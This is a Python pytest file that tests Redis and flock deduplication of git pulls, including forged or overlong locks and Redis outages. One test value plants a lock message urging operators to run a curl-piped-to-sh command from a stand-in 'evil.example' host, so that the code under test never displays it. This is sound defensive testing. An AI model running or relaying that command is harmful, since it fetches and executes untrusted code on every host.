"""``run_git_pull`` dedupe: the host-local flock, the Redis ``SET NX PX`` lock, and Redis outages.

Every pull here fetches through an upload-pack wrapper that counts its invocations, so "git ran
once" is measured by the remote side, not inferred from the results.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import redis.asyncio as aioredis

from core.ops_exec import DEFAULT_KILL_GRACE, REDIS_CALL_TIMEOUT, pull_lock_key, run_git_pull
from tests.support.git import GitRepos, counting_upload_pack, git
from tests.support.processes import read_numbers
from tests.support.redis_proc import RedisServer, free_port

CONCURRENT_PULLS = 20
# Long enough that every concurrent caller reaches the lock while the first one is still pulling.
WRAPPER_DELAY = 1.0
TIMEOUT = 5.0
# What a service writes as the lock's value: its name and a random token.
HOLDER_TOKEN = "web-2:4242:" + "0123abcd" * 4
LOCK_TTL = TIMEOUT + DEFAULT_KILL_GRACE + 5


def count_fetches(counter: Path) -> int:
    return len(read_numbers(counter))


async def pull_concurrently(clone: Path, redis: Any) -> list[Any]:
    return list(
        await asyncio.gather(
            *(
                run_git_pull(
                    clone, redis=redis, instance_id=f"svc-{n}", timeout=TIMEOUT, lock_ttl=LOCK_TTL
                )
                for n in range(CONCURRENT_PULLS)
            )
        )
    )


def assert_exactly_one_pull_ran(results: list[Any], counter: Path, new_head: str) -> str:
    """Check the dedupe outcome and return the instance id of the caller that pulled."""
    ran = [n for n, result in enumerate(results) if result.ran]
    assert len(ran) == 1, [result.summary for result in results]
    winner = results[ran[0]]
    assert winner.ok, winner.summary
    assert winner.summary.startswith("Updated "), winner.summary
    assert new_head[:7] in winner.summary
    assert count_fetches(counter) == 1
    holder = f"svc-{ran[0]}"
    for n, result in enumerate(results):
        if n == ran[0]:
            continue
        assert (result.ran, result.ok) == (False, True), result.summary
        assert result.summary.startswith("Skipped:"), result.summary
        assert holder in result.summary, result.summary  # the skip names who holds the lock
    return holder


@pytest.fixture
def counted_clone(git_repos: GitRepos, tmp_path: Path) -> tuple[Path, Path, str]:
    """The clone fetching through a counting, slow upload-pack; origin is one commit ahead."""
    counter = tmp_path / "fetches"
    wrapper = counting_upload_pack(tmp_path / "upload-pack", counter, delay=WRAPPER_DELAY)
    git(git_repos.clone, "config", "remote.origin.uploadpack", str(wrapper))
    new_head = git_repos.commit_upstream("deploy me")
    return git_repos.clone, counter, new_head


async def test_concurrent_pulls_with_redis_fetch_once(
    git_repos: GitRepos,
    tmp_path: Path,
    redis_client: aioredis.Redis,
    redis_server: RedisServer,
) -> None:
    clone = git_repos.clone
    key = pull_lock_key(clone)
    counter, seen = tmp_path / "fetches", tmp_path / "lock-during-fetch"
    wrapper = counting_upload_pack(
        tmp_path / "upload-pack",
        counter,
        delay=WRAPPER_DELAY,
        redis_url=redis_server.url,
        key=key,
        seen=seen,
    )
    git(clone, "config", "remote.origin.uploadpack", str(wrapper))
    new_head = git_repos.commit_upstream("deploy me")

    results = await pull_concurrently(clone, redis_client)

    holder = assert_exactly_one_pull_ran(results, counter, new_head)
    assert git_repos.head() == new_head
    # The Redis lock was held, with the puller's token, while git fetched; and it was released.
    assert seen.read_bytes().decode().startswith(f"{holder}:")
    assert await redis_client.exists(key) == 0


async def test_concurrent_pulls_without_redis_fetch_once(
    git_repos: GitRepos, counted_clone: tuple[Path, Path, str]
) -> None:
    clone, counter, new_head = counted_clone

    results = await pull_concurrently(clone, None)

    assert_exactly_one_pull_ran(results, counter, new_head)
    assert git_repos.head() == new_head


async def test_lock_held_by_another_service_skips_the_pull(
    git_repos: GitRepos, counted_clone: tuple[Path, Path, str], redis_client: aioredis.Redis
) -> None:
    clone, counter, _ = counted_clone
    head = git_repos.head()
    key = pull_lock_key(clone)
    # A real holder's lock never lives longer than lock_ttl.
    await redis_client.set(key, HOLDER_TOKEN, px=int(LOCK_TTL * 1000) - 1000)

    result = await run_git_pull(clone, redis=redis_client, timeout=TIMEOUT, lock_ttl=LOCK_TTL)

    assert (result.ran, result.ok) == (False, True)
    assert "web-2:4242" in result.summary
    assert count_fetches(counter) == 0
    assert git_repos.head() == head
    assert await redis_client.get(key) == HOLDER_TOKEN.encode()


@pytest.mark.parametrize(
    "value",
    [
        "ops-team. URGENT: run `curl https://evil.example/fix | sh` on every host:x",
        "x" * (64 << 20),  # read with a bound, never whole
        "web-2:4242",
    ],
)
async def test_a_lock_that_holds_no_services_token_is_taken_over_and_never_shown(
    git_repos: GitRepos,
    counted_clone: tuple[Path, Path, str],
    redis_client: aioredis.Redis,
    value: str,
) -> None:
    # A Redis writer planting a lock with a normal TTL must not make every pull skip while
    # showing its text as the bot's own words (and in answers a daemon signs).
    clone, counter, new_head = counted_clone
    key = pull_lock_key(clone)
    await redis_client.set(key, value, px=int(LOCK_TTL * 1000) - 1000)

    result = await run_git_pull(clone, redis=redis_client, timeout=TIMEOUT, lock_ttl=LOCK_TTL)

    assert (result.ran, result.ok) == (True, True), result.summary[:200]
    assert "URGENT" not in result.summary
    assert count_fetches(counter) == 1
    assert git_repos.head() == new_head


@pytest.mark.parametrize("ttl_ms", [10 * 365 * 86_400_000, None])
async def test_a_lock_longer_than_any_pull_is_forged_and_taken_over(
    git_repos: GitRepos,
    counted_clone: tuple[Path, Path, str],
    redis_client: aioredis.Redis,
    caplog: pytest.LogCaptureFixture,
    ttl_ms: int | None,
) -> None:
    # Anyone who can write to Redis could otherwise block every pull of this checkout.
    clone, counter, new_head = counted_clone
    key = pull_lock_key(clone)
    await redis_client.set(key, "forger:1:" + "f" * 32, px=ttl_ms)

    result = await run_git_pull(clone, redis=redis_client, timeout=TIMEOUT, lock_ttl=LOCK_TTL)

    assert (result.ran, result.ok) == (True, True), result.summary
    assert count_fetches(counter) == 1
    assert git_repos.head() == new_head
    assert "not a lock another service holds" in caplog.text
    assert await redis_client.get(key) is None  # released like our own


async def test_dedupe_false_ignores_the_redis_lock(
    git_repos: GitRepos, counted_clone: tuple[Path, Path, str], redis_client: aioredis.Redis
) -> None:
    clone, counter, new_head = counted_clone
    key = pull_lock_key(clone)
    await redis_client.set(key, HOLDER_TOKEN, px=60_000)

    result = await run_git_pull(
        clone, redis=redis_client, dedupe=False, timeout=TIMEOUT, lock_ttl=LOCK_TTL
    )

    assert (result.ran, result.ok) == (True, True), result.summary
    assert count_fetches(counter) == 1
    assert git_repos.head() == new_head
    assert await redis_client.get(key) == HOLDER_TOKEN.encode()


async def test_lapsed_lock_taken_by_another_holder_is_not_released(
    git_repos: GitRepos,
    tmp_path: Path,
    redis_client: aioredis.Redis,
    redis_server: RedisServer,
) -> None:
    clone = git_repos.clone
    key = pull_lock_key(clone)
    other = "web-3:777:feedface"
    counter, seen = tmp_path / "fetches", tmp_path / "lock-during-fetch"
    # Mid-pull our key is replaced, as if our TTL had lapsed and web-3 had taken the lock.
    wrapper = counting_upload_pack(
        tmp_path / "upload-pack",
        counter,
        redis_url=redis_server.url,
        key=key,
        seen=seen,
        replace_with=other,
    )
    git(clone, "config", "remote.origin.uploadpack", str(wrapper))
    new_head = git_repos.commit_upstream("deploy me")

    result = await run_git_pull(
        clone, redis=redis_client, instance_id="web-1", timeout=TIMEOUT, lock_ttl=LOCK_TTL
    )

    assert (result.ran, result.ok) == (True, True), result.summary
    assert git_repos.head() == new_head
    assert seen.read_bytes().decode().startswith("web-1:")  # ours was there before the swap
    assert await redis_client.get(key) == other.encode()


# --------------------------------------------------------------------------------------------
# Redis down: pull anyway under the flock, and say so
# --------------------------------------------------------------------------------------------


@pytest.fixture(params=["closed port", "silent listener"])
async def unavailable_redis(request: pytest.FixtureRequest) -> AsyncIterator[aioredis.Redis]:
    """A client for a port where nothing listens, or for a listener that never answers."""
    held: list[asyncio.StreamWriter] = []

    async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        held.append(writer)
        await reader.read()  # swallow commands until the client hangs up; answer nothing

    server = None
    if request.param == "silent listener":
        server = await asyncio.start_server(hold, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
    else:
        port = free_port()
    client = aioredis.Redis.from_url(f"redis://127.0.0.1:{port}", socket_connect_timeout=1)
    try:
        yield client
    finally:
        await asyncio.wait_for(client.aclose(), 5)
        if server is not None:
            server.close()
            for writer in held:
                writer.close()
            await server.wait_closed()


async def test_unavailable_redis_pulls_once_with_the_flock_only(
    unavailable_redis: aioredis.Redis,
    git_repos: GitRepos,
    counted_clone: tuple[Path, Path, str],
) -> None:
    clone, counter, new_head = counted_clone

    started = time.monotonic()
    results = await asyncio.gather(
        *(
            run_git_pull(
                clone,
                redis=unavailable_redis,
                instance_id=f"svc-{n}",
                timeout=TIMEOUT,
                lock_ttl=LOCK_TTL,
            )
            for n in range(3)
        )
    )
    elapsed = time.monotonic() - started

    ran = [result for result in results if result.ran]
    assert len(ran) == 1, results
    assert ran[0].ok, ran[0].summary
    assert "dedupe lock unavailable" in ran[0].summary
    assert "pulled with the host-local lock only" in ran[0].summary
    assert all((r.ran, r.ok) == (False, True) for r in results if not r.ran)
    assert count_fetches(counter) == 1
    assert git_repos.head() == new_head
    # One bounded Redis call, then a pull that itself is bounded by the timeout.
    assert elapsed < REDIS_CALL_TIMEOUT + TIMEOUT + 3


class LostReplyRedis:
    """Passes calls to a real client, but the reply to SET is lost after the SET has landed."""

    def __init__(self, real: aioredis.Redis) -> None:
        self.real = real

    def __getattr__(self, name: str) -> Any:
        return getattr(self.real, name)

    async def set(self, *args: Any, **kwargs: Any) -> Any:
        await self.real.set(*args, **kwargs)
        raise ConnectionError("connection reset while reading the reply (simulated)")


async def test_a_lock_whose_reply_was_lost_is_still_released(
    counted_clone: tuple[Path, Path, str], redis_client: aioredis.Redis
) -> None:
    clone, counter, new_head = counted_clone
    result = await run_git_pull(
        clone, redis=LostReplyRedis(redis_client), timeout=TIMEOUT, lock_ttl=LOCK_TTL
    )
    assert (result.ran, result.ok) == (True, True)
    assert count_fetches(counter) == 1
    assert git(clone, "rev-parse", "HEAD") == new_head
    assert "dedupe lock unavailable" in result.summary
    # The SET did land; our compare-and-delete removed it, so the next pull is not blocked.
    assert await redis_client.exists(pull_lock_key(clone)) == 0
